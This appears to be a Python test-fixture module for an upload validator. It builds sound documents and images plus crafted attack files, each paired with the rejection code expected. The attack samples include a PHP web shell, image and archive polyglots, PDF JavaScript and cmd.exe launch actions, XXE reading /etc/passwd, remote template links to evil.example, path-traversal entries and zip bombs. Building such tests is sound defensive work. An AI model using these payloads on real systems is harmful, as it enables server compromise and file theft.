"""Uploads made in code: sound ones of every kind, and what attackers send, each with the refusal that it deserves."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")  # fmt: skip


def pdf(body: bytes = b"<</Type/Catalog/Pages 2 0 R>>", after: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj" + body + b"endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + after


def packed_pdf(inside: bytes) -> bytes:
    """A PDF whose objects lie in a Flate-packed object stream, as most writers make them now."""
    packed = zlib.compress(inside)
    head = b"%%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n" % len(packed)
    return head + packed + b"\nendstream endobj\nstartxref\n9\n%%EOF\n"


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(
    width: int = 2, height: int = 2, *, depth: int = 8, colour: int = 0, extra: bytes = b"", end: bool = True
) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    data = zlib.compress(b"\0" * (min(width, 64) + 1) * min(height, 64))
    whole = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", data)
    return whole + (chunk(b"IEND", b"") if end else b"")


def segment(mark: int, content: bytes) -> bytes:
    return bytes((0xFF, mark)) + struct.pack(">H", len(content) + 2) + content


def jpg(width: int = 16, height: int = 16, *, note: bytes = b"", scans: int = 1, end: bytes = b"\xff\xd9") -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    note = segment(0xFE, note) if note else b""
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")
        + note
        + segment(0xC0, frame)
        + scan * scans
        + end
    )


def package(*parts: tuple[str, bytes | str], packed: bool = True, comment: bytes = b"") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in parts:
            entry = zipfile.ZipInfo("placeholder")
            entry.filename = name  # the constructor would clean it
            entry.compress_type = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
            archive.writestr(entry, content)
        archive.comment = comment
    return stream.getvalue()


def docx(*parts: tuple[str, bytes | str], types: str = TYPES, **options: bool) -> bytes:
    return package(("[Content_Types].xml", types), ("word/document.xml", "<w:document/>"), *parts, **options)  # type: ignore[arg-type]


def xlsx(*parts: tuple[str, bytes | str]) -> bytes:
    return package(("[Content_Types].xml", TYPES), ("xl/workbook.xml", "<workbook/>"), *parts)


def ofd(*parts: tuple[str, bytes | str]) -> bytes:
    return package(("OFD.xml", "<ofd:OFD/>"), ("Doc_0/Document.xml", "<ofd:Document/>"), *parts)


def relation(kind: str, target: str, mode: str = "External") -> tuple[str, str]:
    row = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return "word/_rels/document.xml.rels", RELATIONS.format(row)


def encrypted() -> bytes:
    """A package whose entries say that they are encrypted, in both headers."""
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def lying_sizes(content: bytes, claimed: int) -> bytes:
    """The same package, whose directory claims that every entry unpacks to almost nothing."""
    lying = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = lying.find(mark)
        while place >= 0:
            lying[place + offset : place + offset + 4] = struct.pack("<I", claimed)
            place = lying.find(mark, place + 4)
    return bytes(lying)


def nested(depth: int) -> bytes:
    content = xlsx()
    for _ in range(depth):
        content = docx(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", content))
    return content


ZIP = package(("evil.php", "<?php system($_GET[0]);"))
GIF = b"GIF89a/*\x00\x00*/=1;alert(1)//"
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
JAVASCRIPT = b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"


class Good(NamedTuple):
    label: str
    content: bytes
    filename: str
    media_type: str


class Bad(NamedTuple):
    label: str
    make: Callable[[], bytes]
    filename: str
    code: str


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
GOOD = (
    Good("pdf", pdf(), "营业执照.pdf", "application/pdf"),
    Good("pdf with packed objects", packed_pdf(b"1 0 <</Type/Catalog/JSON 1>>"), "a.pdf", "application/pdf"),
    Good("pdf that was saved twice", pdf() + b"2 0 obj<<>>endobj\n%%EOF", "a.pdf", "application/pdf"),
    Good("png", png(), "a.PNG", "image/png"),
    Good("png of 50 megapixels", png(10_000, 5_000), "a.png", "image/png"),
    Good("png with notes", png(extra=chunk(b"tEXt", b"Software\0scan")), "a.png", "image/png"),
    Good("jpg", jpg(), "a.jpeg", "image/jpeg"),
    Good("jpg in several scans", jpg(scans=10), "a.jpg", "image/jpeg"),
    Good("jpg of a phone, a small picture behind the large one", jpg() + jpg(8, 8), "a.jpg", "image/jpeg"),
    Good("docx", docx(), "合同.docx", WORD),
    Good("docx with a plain link", docx(relation("hyperlink", "https://example.com/a")), "a.docx", WORD),
    Good("docx with a chart's workbook in it", nested(1), "a.docx", WORD),
    Good("docx with a relation inside", docx(relation("image", "media/image1.png", "Internal")), "a.docx", WORD),
    Good("xlsx", xlsx(("xl/worksheets/sheet1.xml", "<worksheet/>")), "a.xlsx", SHEET),
    Good("xlsx not packed", package(("[Content_Types].xml", TYPES), ("xl/workbook.xml", "<x/>"), packed=False), "a.xlsx", SHEET),
    Good("ofd", ofd(), "发票.ofd", "application/ofd"),
)  # fmt: skip
BAD = (
    Bad("nothing", lambda: b"", "a.pdf", "file.empty"),
    Bad("a program", lambda: b"MZ\x90\x00program", "a.pdf", "file.kind"),
    Bad("html", lambda: b"<html><script>alert(1)</script>", "a.html", "file.kind"),
    Bad("svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "file.kind"),
    Bad("a table for a licence", lambda: b"a,b\n1,2\n", "a.csv", "file.kind"),
    Bad("eicar", lambda: EICAR, "eicar.pdf", "file.kind"),
    Bad("gif and script in one", lambda: GIF, "a.gif", "file.kind"),
    Bad("gif that says png", lambda: GIF, "a.png", "file.kind"),
    Bad("a plain archive", lambda: package(("a.txt", "x")), "a.zip", "file.kind"),
    Bad("an archive with a program", lambda: ZIP, "a.docx", "file.active"),
    Bad("pdf that says jpg", pdf, "a.jpg", "file.mismatch"),
    Bad("docx that says xlsx", docx, "a.xlsx", "file.mismatch"),
    Bad("two endings", pdf, "a.pdf.exe", "file.mismatch"),
    Bad("no ending", pdf, "pdf", "file.mismatch"),
    Bad("pdf cut off", lambda: pdf()[:-7], "a.pdf", "file.damaged"),
    Bad("pdf without a version", lambda: b"%PDF-x\n%%EOF", "a.pdf", "file.damaged"),
    Bad("script before the pdf", lambda: b"alert(1)//" + pdf(), "a.pdf", "file.kind"),
    Bad("pdf with script", lambda: pdf(JAVASCRIPT), "a.pdf", "file.active"),
    Bad("pdf with script, spelled", lambda: pdf(JAVASCRIPT.replace(b"JavaScript", b"J#61vaScr#69pt")), "a.pdf", "file.active"),
    Bad("pdf with script, packed", lambda: packed_pdf(JAVASCRIPT), "a.pdf", "file.active"),
    Bad("pdf that launches", lambda: pdf(b"<</A<</S/Launch/F(cmd.exe)>>>>"), "a.pdf", "file.active"),
    Bad("pdf with a file in it", lambda: pdf(b"<</Type/EmbeddedFile/Length 3>>"), "a.pdf", "file.active"),
    Bad("pdf with files in it", lambda: pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), "a.pdf", "file.active"),
    Bad("pdf and archive in one", lambda: pdf(after=ZIP), "a.pdf", "file.polyglot"),
    Bad("png of zeros", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\0" * 20, "a.png", "file.damaged"),
    Bad("png without an end", lambda: png(end=False), "a.png", "file.damaged"),
    Bad("png without pixels", lambda: png().replace(b"IDAT", b"iDAT"), "a.png", "file.damaged"),
    Bad("png with a changed header", lambda: png().replace(b"\0\0\0\x02\0\0\0\x02", b"\0\0\0\x02\0\0\0\x03"), "a.png", "file.damaged"),
    Bad("png cut off", lambda: png()[:50], "a.png", "file.damaged"),
    Bad("png of an unknown depth", lambda: png(depth=3), "a.png", "file.damaged"),
    Bad("png without measures", lambda: png(0, 5), "a.png", "file.damaged"),
    Bad("png of 51 megapixels", lambda: png(10_200, 5_000), "a.png", "file.pixels"),
    Bad("png with a long side", lambda: png(20_001, 1), "a.png", "file.pixels"),
    Bad("png and script in one", lambda: png() + b"<?php system(1);", "a.png", "file.polyglot"),
    Bad("png and archive in one", lambda: png() + ZIP, "a.png", "file.polyglot"),
    Bad("jpg of zeros", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 20, "a.jpg", "file.damaged"),
    Bad("jpg without an end", lambda: jpg(end=b""), "a.jpg", "file.damaged"),
    Bad("jpg cut off", lambda: jpg()[:30], "a.jpg", "file.damaged"),
    Bad("jpg without measures", lambda: jpg(0, 0), "a.jpg", "file.damaged"),
    Bad("jpg of 51 megapixels", lambda: jpg(10_200, 5_000), "a.jpg", "file.pixels"),
    Bad("jpg with a long side", lambda: jpg(3, 20_001), "a.jpg", "file.pixels"),
    Bad("jpg with a thousand scans", lambda: jpg(scans=1000), "a.jpg", "file.damaged"),
    Bad("jpg and php in one", lambda: jpg() + b"<?php system($_GET[0]); ?>", "a.jpg", "file.polyglot"),
    Bad("jpg with php in its comment", lambda: jpg(note=b"<?php system($_GET[0]); ?>"), "a.jpg", "file.polyglot"),
    Bad("jpg and archive in one", lambda: jpg() + ZIP, "a.jpg", "file.polyglot"),
    Bad("docx broken", lambda: b"PK\x03\x04broken", "a.docx", "file.damaged"),
    Bad("docx with a broken entry", lambda: docx(("word/a.xml", b"x" * 99), packed=False).replace(b"x" * 99, b"y" * 99), "a.docx", "file.damaged"),
    Bad("docx without its types", lambda: package(("word/document.xml", "<x/>")), "a.docx", "file.damaged"),
    Bad("docx and xlsx in one", lambda: docx(("xl/workbook.xml", "<x/>")), "a.docx", "file.polyglot"),
    Bad("docx with bytes behind", lambda: docx() + b"<?php", "a.docx", "file.polyglot"),
    Bad("archive and docx in one", lambda: ZIP + docx(), "a.docx", "file.polyglot"),
    Bad("docx with a comment", lambda: package(("[Content_Types].xml", TYPES), ("word/document.xml", "<x/>"), comment=b"MZ"), "a.docx", "file.polyglot"),
    Bad("docx with macros", lambda: docx(("word/vbaProject.bin", b"\0")), "a.docx", "file.active"),
    Bad("docx that says macros", lambda: docx(types=TYPES.replace("main+xml", "macroEnabled.main+xml")), "a.docx", "file.active"),
    Bad("xlsx with old macros", lambda: xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), "a.xlsx", "file.active"),
    Bad("docx with a control", lambda: docx(("word/activeX/activeX1.xml", "<x/>")), "a.docx", "file.active"),
    Bad("docx with an object", lambda: docx(("word/embeddings/oleObject1.bin", b"\0")), "a.docx", "file.active"),
    Bad("docx with a program", lambda: docx(("word/media/image1.png", b"MZ\x90")), "a.docx", "file.active"),
    Bad("docx with a script in it", lambda: docx(("word/run.vbs", b"x")), "a.docx", "file.active"),
    Bad("docx with a document type", lambda: docx(("word/a.xml", DOCTYPE)), "a.docx", "file.external"),
    Bad("docx with a document type in utf-16", lambda: docx(("word/a.xml", DOCTYPE.encode("utf-16"))), "a.docx", "file.external"),
    Bad("a document type across two pieces", lambda: docx(("word/a.xml", " " * (256 * 1024 - 5) + DOCTYPE), packed=False), "a.docx", "file.external"),
    Bad("ofd with a document type", lambda: ofd(("Doc_0/a.xml", DOCTYPE)), "a.ofd", "file.external"),
    Bad("docx with a template elsewhere", lambda: docx(relation("attachedTemplate", "http://evil.example/t.dotm")), "a.docx", "file.external"),
    Bad("docx with a picture elsewhere", lambda: docx(relation("image", "http://evil.example/p.png")), "a.docx", "file.external"),
    Bad("docx with a link to a share", lambda: docx(relation("hyperlink", "file://host/share")), "a.docx", "file.external"),
    Bad("xlsx with another workbook", lambda: xlsx(relation("externalLinkPath", "b.xlsx")), "a.xlsx", "file.external"),
    Bad("docx encrypted", encrypted, "a.docx", "file.encrypted"),
    Bad("docx with a way out", lambda: docx(("../../etc/cron.d/x", "x")), "a.docx", "file.names"),
    Bad("docx with an absolute name", lambda: docx(("/etc/passwd", "x")), "a.docx", "file.names"),
    Bad("docx with a drive", lambda: docx(("C:/x", "x")), "a.docx", "file.names"),
    Bad("docx with a backslash", lambda: docx(("..\\x", "x")), "a.docx", "file.names"),
    Bad("docx with a part twice", lambda: docx(("word/Document.xml", "<other/>")), "a.docx", "file.names"),
    Bad("docx of many entries", lambda: docx(*((f"word/media/{n}", "") for n in range(2000))), "a.docx", "file.bomb"),
    Bad("docx that unfolds", lambda: docx(("word/media/a", b"\0" * (8 * 1024 * 1024))), "a.docx", "file.bomb"),
    Bad("docx that unfolds and lies", lambda: lying_sizes(docx(("word/media/a", b"\0" * (8 * 1024 * 1024))), 10), "a.docx", "file.damaged"),
    Bad("docx in docx in docx", lambda: nested(2), "a.docx", "file.bomb"),
    Bad("docx with an archive", lambda: docx(("word/media/a", ZIP)), "a.docx", "file.active"),
    Bad("docx with a packed tar", lambda: docx(("word/media/a", b"\x1f\x8b\x08\0")), "a.docx", "file.bomb"),
)  # fmt: skip
